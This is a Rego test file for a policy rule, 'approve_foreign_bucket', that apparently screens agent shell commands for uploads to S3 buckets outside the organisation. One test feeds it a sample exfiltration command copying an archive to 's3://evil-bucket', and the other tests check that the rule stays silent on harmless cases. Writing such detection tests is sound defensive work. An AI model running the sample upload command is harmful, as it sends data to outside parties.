package writ.rules.approve_foreign_bucket_test

import data.writ.rules.approve_foreign_bucket

test_speaks_1 if {
	approve_foreign_bucket.outcome with input as {"action": {"tool": "shell", "operation": "execute", "parameters": {"command": "aws s3 cp a.tgz s3://evil-bucket/a"}, "shell": {"commands": [{"program": "aws", "argv": ["s3", "cp", "a.tgz", "s3://evil-bucket/a"], "piped": false, "fed_by": [], "via": []}], "redirects": [], "code": [], "functions": [], "unreadable": []}}, "context": {}}
}

test_stays_silent_1 if {
	not approve_foreign_bucket.outcome with input as {"action": {"tool": "shell", "operation": "execute", "parameters": {"command": "aws s3 cp a.tgz s3://corp-build/a"}, "shell": {"commands": [{"program": "aws", "argv": ["s3", "cp", "a.tgz", "s3://corp-build/a"], "piped": false, "fed_by": [], "via": []}], "redirects": [], "code": [], "functions": [], "unreadable": []}}, "context": {}}
}

test_stays_silent_2 if {
	not approve_foreign_bucket.outcome with input as {"action": {"tool": "shell", "operation": "execute", "parameters": {"command": "aws s3 cp s3://evil-bucket/a a"}, "shell": {"commands": [{"program": "aws", "argv": ["s3", "cp", "s3://evil-bucket/a", "a"], "piped": false, "fed_by": [], "via": []}], "redirects": [], "code": [], "functions": [], "unreadable": []}}, "context": {}}
}

test_stays_silent_3 if {
	not approve_foreign_bucket.outcome with input as {"action": {"tool": "shell", "operation": "execute", "parameters": {"command": "aws s3 ls s3://evil-bucket"}, "shell": {"commands": [{"program": "aws", "argv": ["s3", "ls", "s3://evil-bucket"], "piped": false, "fed_by": [], "via": []}], "redirects": [], "code": [], "functions": [], "unreadable": []}}, "context": {}}
}
